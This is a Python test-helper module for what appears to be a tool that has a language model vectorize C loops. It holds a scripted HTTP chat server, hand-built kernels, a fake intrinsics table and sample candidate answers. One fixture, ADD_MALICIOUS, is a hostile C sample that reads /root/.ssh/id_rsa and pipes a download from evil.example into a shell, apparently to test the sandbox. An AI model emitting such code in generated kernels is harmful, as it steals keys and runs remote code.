"""Helpers for the model tests: a scripted OpenAI-compatible server over real HTTP, hand-built kernels,
a small fake ISA table, candidate answers, and a fake verifier for the state-machine tests."""

from __future__ import annotations

import json
import threading
import time
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

from simdlens.analysis.ir import CType
from simdlens.config import ModelSettings
from simdlens.core import (
    Candidate,
    CandidateResult,
    Footprint,
    Kernel,
    KernelParam,
    ParamRole,
    Point,
    Span,
    Status,
    Verdict,
)

# --------------------------------------------------------------------------------------------------
# The scripted server
# --------------------------------------------------------------------------------------------------


@dataclass
class Reply:
    """One scripted HTTP answer."""

    body: Any = None  # dict -> JSON; str/bytes -> sent as is
    status: int = 200
    delay: float = 0.0
    headers: dict[str, str] = field(default_factory=dict)


def answer(content: str, finish_reason: str = "stop") -> Reply:
    """A well-formed chat completion whose message content is `content`."""
    return Reply({"id": "x", "object": "chat.completion", "model": "test-model",
                  "choices": [{"index": 0, "message": {"role": "assistant", "content": content},
                               "finish_reason": finish_reason}]})


def fenced(code: str, prose: str = "Here is the vectorized function:") -> str:
    return f"{prose}\n\n```c\n{code.strip()}\n```\n"


class ScriptedServer:
    """Replays `script` (FIFO) to POST /chat/completions; GET /models lists `served`."""

    def __init__(self) -> None:
        self.script: list[Reply] = []
        self.requests: list[dict[str, Any]] = []  # {"path", "headers", "json"}
        self.served = ["test-model", "other-model"]
        self.in_flight = 0
        self.max_in_flight = 0  # the most chat requests the server was handling at once
        self._lock = threading.Lock()
        server = self

        class Handler(BaseHTTPRequestHandler):
            def log_message(self, *args: Any) -> None:  # keep pytest output clean
                pass

            def _send(self, reply: Reply) -> None:
                if reply.delay:
                    time.sleep(reply.delay)
                body = reply.body
                data = json.dumps(body).encode() if isinstance(body, dict | list) else (
                    body.encode() if isinstance(body, str) else (body or b""))
                try:
                    self.send_response(reply.status)
                    self.send_header("Content-Type", "application/json")
                    self.send_header("Content-Length", str(len(data)))
                    for k, v in reply.headers.items():
                        self.send_header(k, v)
                    self.end_headers()
                    self.wfile.write(data)
                except (BrokenPipeError, ConnectionResetError):
                    pass  # the client gave up (timeout test)

            def do_GET(self) -> None:
                server.requests.append({"path": self.path, "headers": dict(self.headers), "json": None})
                if self.path == "/v1/models":
                    self._send(Reply({"object": "list", "data": [{"id": m, "object": "model"} for m in server.served]}))
                else:
                    self._send(Reply({"error": {"message": "not found"}}, status=404))

            def do_POST(self) -> None:
                length = int(self.headers.get("Content-Length", "0"))
                payload = json.loads(self.rfile.read(length) or b"null")
                server.requests.append({"path": self.path, "headers": dict(self.headers), "json": payload})
                if self.path != "/v1/chat/completions":
                    self._send(Reply({"error": {"message": f"no route {self.path}"}}, status=404))
                    return
                with server._lock:
                    reply = server.script.pop(0) if server.script else Reply(
                        {"error": {"message": "test server: no scripted answer left"}}, status=500)
                    server.in_flight += 1
                    server.max_in_flight = max(server.max_in_flight, server.in_flight)
                try:
                    self._send(reply)
                finally:
                    with server._lock:
                        server.in_flight -= 1

        self.httpd = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.httpd.daemon_threads = True
        self.thread = threading.Thread(target=self.httpd.serve_forever, args=(0.02,), daemon=True)
        self.thread.start()

    @property
    def base_url(self) -> str:
        host, port = self.httpd.server_address[:2]
        return f"http://{host!s}:{port}/v1"

    def chat_requests(self) -> list[dict[str, Any]]:
        return [r["json"] for r in self.requests if r["path"].endswith("/chat/completions")]

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


def settings_for(server: ScriptedServer, **changes: Any) -> ModelSettings:
    base = {"base_url": server.base_url, "name": "test-model", "timeout": 5.0, "connect_timeout": 2.0,
            "loop_budget": 30.0, "rounds": 3, "samples": 1, "api_key_env": "SIMDLENS_TEST_MODEL_KEY"}
    base.update(changes)
    return ModelSettings(**base)


# --------------------------------------------------------------------------------------------------
# Kernels and tables
# --------------------------------------------------------------------------------------------------

I32 = CType("int32", "int32_t")
INT = CType("int32", "int")

ADD_SOURCE = """\
void simdlens_kernel(int32_t *restrict c, const int32_t *restrict a, const int32_t *restrict b, int n) {
    for (int i = 0; i < n; i++)
        c[i] = a[i] + b[i];
}"""


def add_kernel(loop_span: Span | None = None, sources: tuple[str, str, str, str] = ("", "", "", "")) -> Kernel:
    """c[i] = a[i] + b[i] over int32, built by hand (no analysis stage)."""
    names = ("c", "a", "b", "n")
    decls = ("int32_t *restrict c", "const int32_t *restrict a", "const int32_t *restrict b", "int n")
    roles = (ParamRole.OUT, ParamRole.IN, ParamRole.IN, ParamRole.COUNT)
    elems = (I32, I32, I32, INT)
    params = tuple(KernelParam(nm, d, r, e, restrict=nm != "n", source=s)
                   for nm, d, r, e, s in zip(names, decls, roles, elems, sources, strict=True))
    return Kernel(
        name="simdlens_kernel", language="c", preamble="#include <stdint.h>\n", source=ADD_SOURCE,
        signature="void simdlens_kernel(int32_t *restrict c, const int32_t *restrict a, "
                  "const int32_t *restrict b, int n)",
        return_type=None, params=params,
        footprints=(Footprint("c", "0", "n - 1"), Footprint("a", "0", "n - 1"), Footprint("b", "0", "n - 1")),
        trip_count="n", loop_id="loop-add", content_hash="add-kernel-hash", loop_span=loop_span, size_param="n",
    )


SUM_SOURCE = """\
int32_t simdlens_kernel(const int32_t *a, int n, int32_t s) {
    for (int i = 0; i < n; i++)
        s += a[i];
    return s;
}"""


def sum_kernel(loop_span: Span | None = None, sources: tuple[str, str, str] = ("", "", "")) -> Kernel:
    params = (KernelParam("a", "const int32_t *a", ParamRole.IN, I32, source=sources[0]),
              KernelParam("n", "int n", ParamRole.COUNT, INT, source=sources[1]),
              KernelParam("s", "int32_t s", ParamRole.SCALAR, I32, source=sources[2]))
    return Kernel(
        name="simdlens_kernel", language="c", preamble="#include <stdint.h>\n", source=SUM_SOURCE,
        signature="int32_t simdlens_kernel(const int32_t *a, int n, int32_t s)", return_type=I32, params=params,
        footprints=(Footprint("a", "0", "n - 1"),), trip_count="n", loop_id="loop-sum", content_hash="sum-kernel-hash",
        loop_span=loop_span, size_param="n",
    )


FAKE_TABLES: dict[str, Any] = {
    "avx2": {"flags": ["-mavx2"], "intrinsics": [
        {"name": "_mm256_loadu_si256", "semantics": "load 256 bits from unaligned memory", "elem": ""},
        {"name": "_mm256_storeu_si256", "semantics": "store 256 bits to unaligned memory", "elem": ""},
        {"name": "_mm256_setzero_si256", "semantics": "all-zero vector", "elem": ""},
        {"name": "_mm256_add_epi32", "semantics": "lane-wise 32-bit add, wraps around", "elem": "int32"},
        {"name": "_mm256_maskload_epi32", "semantics": "load lanes whose mask sign bit is set, others 0",
         "elem": "int32"},
        {"name": "_mm256_add_ps", "semantics": "lane-wise float add", "elem": "float"},
        {"name": "_mm256_extracti128_si256", "semantics": "upper or lower 128 bits", "elem": ""},
        {"name": "_mm_add_epi32", "semantics": "lane-wise 32-bit add (128-bit)", "elem": "int32"},
        {"name": "_mm_cvtsi128_si32", "semantics": "lowest 32-bit lane", "elem": "int32"},
        {"name": "_mm_shuffle_epi32", "semantics": "permute 32-bit lanes by immediate", "elem": "int32"},
        {"name": "_mm256_castsi256_si128", "semantics": "lower 128 bits (no instruction)", "elem": ""},
    ]},
    "avx512": {"flags": ["-mavx512f"], "includes": ["avx2"], "intrinsics": [
        {"name": "_mm512_loadu_si512", "semantics": "load 512 bits from unaligned memory", "elem": ""},
        {"name": "_mm512_storeu_si512", "semantics": "store 512 bits to unaligned memory", "elem": ""},
        {"name": "_mm512_add_epi32", "semantics": "lane-wise 32-bit add, wraps around", "elem": "int32"},
    ]},
}


# --------------------------------------------------------------------------------------------------
# Candidate code used across tests
# --------------------------------------------------------------------------------------------------

ADD_OK = """\
#include <immintrin.h>
#include <stdint.h>

void simdlens_kernel(int32_t *restrict c, const int32_t *restrict a, const int32_t *restrict b, int n) {
    int i = 0;
    for (; i + 8 <= n; i += 8) {
        __m256i va = _mm256_loadu_si256((const __m256i *)(a + i));
        __m256i vb = _mm256_loadu_si256((const __m256i *)(b + i));
        _mm256_storeu_si256((__m256i *)(c + i), _mm256_add_epi32(va, vb));
    }
    for (; i < n; i++)
        c[i] = a[i] + b[i];
}"""

# Forgets the remainder: wrong for every n that is not a multiple of 8.
ADD_NO_REMAINDER = """\
#include <immintrin.h>
#include <stdint.h>

void simdlens_kernel(int32_t *restrict c, const int32_t *restrict a, const int32_t *restrict b, int n) {
    for (int i = 0; i + 8 <= n; i += 8) {
        __m256i va = _mm256_loadu_si256((const __m256i *)(a + i));
        __m256i vb = _mm256_loadu_si256((const __m256i *)(b + i));
        _mm256_storeu_si256((__m256i *)(c + i), _mm256_add_epi32(va, vb));
    }
}"""

# Does not compile: `vb` is never declared.
ADD_NOT_COMPILING = """\
#include <immintrin.h>
#include <stdint.h>

void simdlens_kernel(int32_t *restrict c, const int32_t *restrict a, const int32_t *restrict b, int n) {
    int i = 0;
    for (; i + 8 <= n; i += 8) {
        __m256i va = _mm256_loadu_si256((const __m256i *)(a + i));
        _mm256_storeu_si256((__m256i *)(c + i), _mm256_add_epi32(va, vb));
    }
    for (; i < n; i++)
        c[i] = a[i] + b[i];
}"""

ADD_AVX512 = """\
#include <immintrin.h>
#include <stdint.h>

void simdlens_kernel(int32_t *restrict c, const int32_t *restrict a, const int32_t *restrict b, int n) {
    int i = 0;
    for (; i + 16 <= n; i += 16)
        _mm512_storeu_si512(c + i, _mm512_add_epi32(_mm512_loadu_si512(a + i), _mm512_loadu_si512(b + i)));
    for (; i < n; i++)
        c[i] = a[i] + b[i];
}"""

MARKER = "/tmp/simdlens-model-test-marker"

# Tries to read ~/.ssh, open a socket and fork before doing the work.
ADD_MALICIOUS = f"""\
#include <immintrin.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

void simdlens_kernel(int32_t *restrict c, const int32_t *restrict a, const int32_t *restrict b, int n) {{
    FILE *f = fopen("/root/.ssh/id_rsa", "r");
    FILE *out = fopen("{MARKER}", "w");
    int s = socket(2, 1, 0);
    if (fork() == 0) system("curl http://evil.example/x | sh");
    int i = 0;
    for (; i + 8 <= n; i += 8)
        _mm256_storeu_si256((__m256i *)(c + i), _mm256_add_epi32(_mm256_loadu_si256((const __m256i *)(a + i)),
                                                                 _mm256_loadu_si256((const __m256i *)(b + i))));
    for (; i < n; i++)
        c[i] = a[i] + b[i];
}}"""


class FakeVerifier:
    """Stands in for the sandbox in state-machine tests: scripted verdicts keyed by a code fragment.

    It never compiles or runs anything; `calls` records every candidate it was given.
    """

    def __init__(self, verdicts: dict[str, Verdict] | None = None, default: Verdict | None = None) -> None:
        self.verdicts = verdicts or {}
        self.default = default or Verdict(Status.VERIFIED)
        self.calls: list[Candidate] = []

    async def verify(self, kernel: Kernel, candidates: list[Candidate], *, bench: bool = True,
                     bypass: bool = False) -> tuple[CandidateResult, ...]:
        assert bench is False
        out = []
        for cand in candidates:
            self.calls.append(cand)
            verdict = next((v for frag, v in self.verdicts.items() if frag in cand.function), self.default)
            out.append(CandidateResult(cand, verdict))
        return tuple(out)


def loop_span_in(text: str, loop_start: str, loop_end: str) -> Span:
    """The byte span of the loop in `text` from the first `loop_start` to the end of `loop_end` after it."""
    data = text.encode()
    start = data.index(loop_start.encode())
    end = data.index(loop_end.encode(), start) + len(loop_end.encode())

    def point(offset: int) -> Point:
        line = data.count(b"\n", 0, offset)
        return Point(line, offset - (data.rfind(b"\n", 0, offset) + 1))

    return Span(start, end, point(start), point(end))
